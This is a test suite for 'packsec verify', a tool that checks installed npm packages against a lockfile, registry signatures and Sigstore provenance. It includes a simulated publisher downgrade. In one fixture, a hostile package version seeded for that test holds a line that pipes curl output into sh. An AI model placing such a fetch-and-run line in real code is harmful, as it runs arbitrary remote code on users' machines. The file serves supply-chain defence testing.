// `packsec verify`: installed files against the lock (offline), then against a registry that signs
// (packsec's own, on 127.0.0.1), a real package with its real recorded Sigstore attestations, a
// simulated publisher downgrade, and real packages from the npm registry this machine can reach.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pacote } from '../src/install/npm.js';
import { seedPackage } from '../src/registry/index.js';
import { initialisedBasic, repoRoot, runCli, TAMPERS, tmpProject } from './helpers.js';
import { startRegistryProcess } from './registry-helpers.js';

interface Report {
  ok: boolean;
  files: { kind: string; path: string; message: string; details: string[] }[];
  copies: { path: string; name: string; version: string; integrity: string; signature: { state: string; keyid?: string }; provenance: { state: string; repository?: string; workflow?: string; commit?: string; reason?: string }; publisherChanges: { kind: string }[] }[];
  problems: string[];
  summary: { copies: number; signatures: Record<string, number>; provenance: Record<string, number> };
  hashing: { bytes: number; ms: number };
}

function verify(dir: string, args: string[] = [], env: NodeJS.ProcessEnv = {}): { code: number | null; report: Report; stderr: string } {
  const r = runCli(['verify', '--json', ...args], dir, env);
  let report: Report;
  try {
    report = JSON.parse(r.stdout) as Report;
  } catch {
    throw new Error(`verify printed no JSON (exit ${r.code}):\n${r.stdout}\n${r.stderr}`);
  }
  return { code: r.code, report, stderr: r.stderr };
}

const initialised = () => initialisedBasic('packsec-verify-');

describe('packsec verify: installed files against the lock', () => {
  it('passes right after init, and says the registry was not asked', () => {
    const dir = initialised();
    const r = runCli(['verify', '--offline'], dir);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /packsec verify: 5 package copies, [\d.]+ MB hashed in \d+ ms\n {2}files: every installed file matches packsec\.lock\.json/);
    assert.match(r.stderr, /registry: not asked/);
  });

  it('catches every kind of tampering', () => {
    const expected: Record<string, [string, RegExp]> = {
      'modified file': ['files-changed', /modified index\.js {2}\(expected sha256-\S+, found sha256-\S+\)/],
      'added file': ['files-changed', /added payload\.js/],
      'deleted file': ['files-changed', /removed index\.js/],
      'swapped package.json': ['files-changed', /modified package\.json/],
      'symlink out of the package': ['files-changed', /added etc/],
      'folder replaced by another version': ['version-changed', /left-pad@1\.0\.0 was installed and recorded, left-pad@1\.3\.0 is there now/],
    };
    for (const { what, tamper } of TAMPERS) {
      const dir = initialised();
      tamper(dir);
      const { code, report } = verify(dir, ['--offline']);
      assert.equal(code, 1, what);
      const [kind, detail] = expected[what]!;
      const p = report.files.find((f) => f.kind === kind);
      assert.ok(p, `${what}: ${JSON.stringify(report.files)}`);
      assert.equal(p.path, 'node_modules/left-pad');
      assert.match([p.message, ...p.details].join('\n'), detail, what);
    }
  });

  it('a copy missing from the lock or from node_modules is a failure', () => {
    const dir = initialised();
    cpSync(join(dir, 'node_modules/left-pad'), join(dir, 'node_modules/left-pad-2'), { recursive: true });
    const lock = JSON.parse(readFileSync(join(dir, 'packsec.lock.json'), 'utf8'));
    lock.packages['node_modules/gone'] = { name: 'gone', version: '1.0.0', files: {} };
    writeFileSync(join(dir, 'packsec.lock.json'), JSON.stringify(lock));
    const { code, report } = verify(dir, ['--offline']);
    assert.equal(code, 1);
    assert.deepEqual(report.files.map((f) => `${f.kind} ${f.path}`).sort(), ['missing node_modules/gone', 'not-in-lock node_modules/left-pad-2']);
  });

  it('a broken or hand-edited lock is exit 2 naming the JSON path', () => {
    const dir = initialised();
    const file = join(dir, 'packsec.lock.json');
    const lock = JSON.parse(readFileSync(file, 'utf8'));
    writeFileSync(file, '{"lockfileVersion": 1, "packages": ');
    let r = runCli(['verify', '--offline'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /packsec\.lock\.json/);
    lock.packages['node_modules/left-pad'].files = 'everything';
    writeFileSync(file, JSON.stringify(lock));
    r = runCli(['verify', '--offline'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /packsec\.lock\.json: packages\["node_modules\/left-pad"\]\.files: expected an object of strings, got "everything"/);
    lock.packages['node_modules/left-pad'].files = {};
    lock.packages['node_modules/left-pad'].publisher = { provenance: 'maybe' };
    writeFileSync(file, JSON.stringify(lock));
    r = runCli(['verify', '--offline'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /publisher\.provenance: expected one of "verified", "none", "unverified", got "maybe"/);
    rmSync(file);
    r = runCli(['verify'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /no packsec\.lock\.json/);
  });
});

const OLD = '2024-01-01T00:00:00.000Z';
const PLAYWRIGHT_CLI = '@playwright/cli';
const ATTESTATIONS = JSON.parse(readFileSync(join(repoRoot, 'test/fixtures/attestations/playwright-cli-0.1.1.json'), 'utf8')) as { attestations: { predicateType: string; bundle: unknown }[] };

describe('packsec verify against a registry that signs (packsec registry on 127.0.0.1)', () => {
  let registry: Awaited<ReturnType<typeof startRegistryProcess>>;
  let dataDir: string;
  let npmCache: string;

  before(async () => {
    const root = tmpProject({}, 'packsec-verify-registry-');
    dataDir = join(root, 'data');
    npmCache = join(root, 'npm-cache');
    await seedPackage(dataDir, { name: 'signed-pad', version: '1.0.0', time: OLD, npmUser: { name: 'alice', email: 'alice@example.invalid' } });
    // The real @playwright/cli@0.1.1 tarball from the npm registry, served with the real attestations
    // npmjs.org recorded for it (test/fixtures/attestations): its provenance verifies with the pinned root.
    const tarball = await pacote().tarball(`${PLAYWRIGHT_CLI}@0.1.1`, { cache: npmCache });
    await seedPackage(dataDir, {
      name: PLAYWRIGHT_CLI, version: '0.1.1', tarball, time: OLD, npmUser: { name: 'pwmaintainer', email: 'pw@example.invalid' },
      attestations: ATTESTATIONS.attestations as never,
    });
    // A later version published with a stolen token: another npm user, no provenance.
    await seedPackage(dataDir, {
      name: PLAYWRIGHT_CLI, version: '0.1.2', time: '2024-02-01T00:00:00.000Z', npmUser: { name: 'mallory', email: 'm@example.invalid' },
      files: { 'index.js': "require('child_process').exec('curl http://127.0.0.1:9/x | sh');\n" },
    });
    registry = await startRegistryProcess(dataDir);
  });

  after(() => registry?.process.kill('SIGTERM'));

  const project = () => tmpProject({
    'package.json': { name: 'app', version: '1.0.0', private: true },
    '.npmrc': `registry=${registry.url}/\naudit=false\nfund=false\nupdate-notifier=false\n`,
    '.npmrc-user': '',
  }, 'packsec-verify-project-');
  const env = (dir: string) => ({ npm_config_cache: npmCache, npm_config_userconfig: join(dir, '.npmrc-user'), CI: '1' });
  const npsm = (args: string[], dir: string) => runCli(['install', ...args], dir, env(dir));

  it('verifies the registry signature and the real Sigstore provenance, and records the publisher', () => {
    const dir = project();
    const r = npsm(['signed-pad', `${PLAYWRIGHT_CLI}@0.1.1`, '--accept'], dir);
    assert.equal(r.code, 0, r.stderr);
    const lock = JSON.parse(readFileSync(join(dir, 'packsec.lock.json'), 'utf8'));
    assert.deepEqual(lock.packages['node_modules/@playwright/cli'].publisher, {
      npmUser: 'pwmaintainer', provenance: 'verified',
      identity: {
        repository: 'https://github.com/microsoft/playwright-cli', workflow: '.github/workflows/publish.yml',
        commit: 'd1c6d1113932ddcee243e8b111b6d4aea553df20', ref: 'refs/tags/v0.1.1', issuer: 'https://token.actions.githubusercontent.com',
      },
    });
    assert.deepEqual(lock.publishers[PLAYWRIGHT_CLI], {
      npmUsers: ['pwmaintainer'], repository: 'https://github.com/microsoft/playwright-cli', workflow: '.github/workflows/publish.yml', since: '0.1.1',
    });
    assert.deepEqual(lock.publishers['signed-pad'], { npmUsers: ['alice'], since: '1.0.0' });

    const { code, report, stderr } = verify(dir, [], env(dir));
    assert.equal(code, 0, stderr);
    const pw = report.copies.find((c) => c.name === PLAYWRIGHT_CLI)!;
    assert.equal(pw.integrity, 'match');
    assert.equal(pw.signature.state, 'verified');
    assert.deepEqual(pw.provenance, { state: 'verified', repository: 'https://github.com/microsoft/playwright-cli', workflow: '.github/workflows/publish.yml', commit: 'd1c6d1113932ddcee243e8b111b6d4aea553df20' });
    const pad = report.copies.find((c) => c.name === 'signed-pad')!;
    assert.equal(pad.signature.state, 'verified');
    assert.equal(pad.provenance.state, 'absent');
    assert.deepEqual(report.summary.signatures.verified, 2);
    assert.deepEqual(report.summary.provenance, { verified: 1, absent: 1, failed: 0, unavailable: 0, 'not-checked': 0 });

    const text = runCli(['verify'], dir, env(dir)).stderr;
    assert.match(text, /signatures: 2 verified, 0 without a registry signature/);
    assert.match(text, /provenance: 1 verified, 1 none listed by the registry/);
    assert.match(text, /@playwright\/cli@0\.1\.1: signed \(key \S+\) built from https:\/\/github\.com\/microsoft\/playwright-cli by \.github\/workflows\/publish\.yml at d1c6d1113932/);

    const strict = verify(dir, ['--require-provenance'], env(dir));
    assert.equal(strict.code, 1);
    assert.match(strict.report.problems.join('\n'), /signed-pad@1\.0\.0\): no verified provenance \(none published\) and --require-provenance is set/);
  });

  it('refuses the downgrade at install, and verify flags it when it got in another way', () => {
    const dir = project();
    assert.equal(npsm([`${PLAYWRIGHT_CLI}@0.1.1`, '--accept'], dir).code, 0);
    const r = npsm([`${PLAYWRIGHT_CLI}@0.1.2`], dir);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /@playwright\/cli@0\.1\.2 has no provenance attestation, but 0\.1\.1, published before it, had one/);
    assert.match(r.stderr, /@playwright\/cli@0\.1\.2 was published by npm user "mallory", not by "pwmaintainer" as pinned since 0\.1\.1/);
    assert.match(r.stderr, /@playwright\/cli@0\.1\.2 has no provenance, but 0\.1\.1 was built with provenance from https:\/\/github\.com\/microsoft\/playwright-cli/);

    // Plain npm installs it anyway, and init records what is there: the pin still holds.
    const plain = spawnNpm(['install', `${PLAYWRIGHT_CLI}@0.1.2`, '--ignore-scripts'], dir, env(dir));
    assert.equal(plain.status, 0, plain.stderr);
    const init = runCli(['init'], dir, env(dir));
    assert.equal(init.code, 0, init.stderr);
    assert.match(init.stderr, /publisher changed: @playwright\/cli@0\.1\.2 was published by npm user "mallory"/);
    const { code, report } = verify(dir, [], env(dir));
    assert.equal(code, 1);
    const pw = report.copies.find((c) => c.name === PLAYWRIGHT_CLI)!;
    assert.deepEqual(pw.publisherChanges.map((c) => c.kind).sort(), ['new-npm-user', 'provenance-dropped']);
  });

  it('a signature that does not verify is a failure, not "unsigned"', () => {
    const dir = project();
    assert.equal(npsm(['signed-pad'], dir).code, 0);
    // The registry's record is altered: the version now carries another version's signature.
    const recordFile = join(dataDir, 'packages', 'signed-pad', 'record.json');
    const original = readFileSync(recordFile, 'utf8');
    const record = JSON.parse(original);
    const playwright = JSON.parse(readFileSync(join(dataDir, 'packages', '@playwright', 'cli', 'record.json'), 'utf8'));
    record.versions['1.0.0'].signatures = playwright.versions['0.1.1'].signatures;
    writeFileSync(recordFile, JSON.stringify(record));
    try {
      const { code, report } = verify(dir, [], env(dir));
      assert.equal(code, 1);
      assert.equal(report.copies[0]!.signature.state, 'failed');
      assert.match(report.problems.join('\n'), /signed-pad@1\.0\.0\): registry signature does not verify/);
    } finally {
      writeFileSync(recordFile, original);
    }
  });
});

function spawnNpm(args: string[], cwd: string, env: NodeJS.ProcessEnv): { status: number | null; stderr: string } {
  const r = spawnSync('npm', args, { cwd, env: { ...process.env, ...env }, encoding: 'utf8' });
  return { status: r.status, stderr: r.stderr };
}

describe('packsec verify on real packages from the npm registry this machine reaches', () => {
  it('says which were verified, which only signed and which had nothing, and never claims more', () => {
    const dir = tmpProject({ 'package.json': { name: 'app', version: '1.0.0', private: true } }, 'packsec-verify-real-');
    // ms has no provenance on npmjs.org; @playwright/cli@0.1.1 has (see the fixture) — but this
    // machine's registry serves neither signatures nor attestations, and verify must say so.
    const r = runCli(['install', 'ms@2.1.3', `${PLAYWRIGHT_CLI}@0.1.1`, '--accept', '--ignore-scripts'], dir, { CI: '1' });
    assert.equal(r.code, 0, r.stderr);
    const { code, report, stderr } = verify(dir);
    assert.equal(code, 0, stderr);
    for (const c of report.copies) {
      assert.equal(c.integrity, 'match', `${c.name}: the lock's integrity is the registry's`);
      assert.notEqual(c.signature.state, 'verified', `${c.name}: nothing here is signed`);
      assert.notEqual(c.provenance.state, 'verified', `${c.name}: no attestations are served here`);
    }
    const { signatures, provenance } = report.summary;
    assert.equal((signatures.verified ?? 0) + (provenance.verified ?? 0), 0);
    const text = runCli(['verify'], dir).stderr;
    assert.match(text, /signatures: 0 verified, \d+ without a registry signature/);
    const strict = verify(dir, ['--require-signatures']);
    assert.equal(strict.code, 1);
    assert.match(strict.report.problems[0]!, /no verified registry signature \(unsigned\) and --require-signatures is set/);
  });
});
